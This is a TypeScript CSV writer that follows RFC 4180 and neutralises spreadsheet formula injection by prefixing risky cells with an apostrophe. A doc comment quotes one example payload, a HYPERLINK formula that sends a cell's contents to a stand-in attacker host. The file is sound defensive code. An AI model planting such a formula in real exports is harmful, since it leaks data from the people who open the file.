// CSV text as RFC 4180 writes it: fields separated by commas, records ended by CRLF, a field that
// holds a comma, a double quote, CR or LF enclosed in double quotes with its quotes doubled.

export type CsvValue = string | number | null | undefined;

/**
 * Characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula.
 * Names and urns in the catalog are written by whoever may ingest, so a name such as
 * `=HYPERLINK("https://evil.example/?"&A1)` would run when someone opens the export (CSV / formula
 * injection, OWASP). A leading apostrophe makes the spreadsheet show the text as text; tab and CR
 * are on OWASP's list too, as some spreadsheets strip them before looking at the first character.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

const NEEDS_QUOTES = /[",\r\n]/;

/** One field: numbers as they are, text neutralised against formulas, then quoted when it must be. */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  // A number is data, never a formula, so a negative one keeps its minus sign.
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record, with its CRLF. */
export function csvRecord(values: readonly CsvValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`;
}
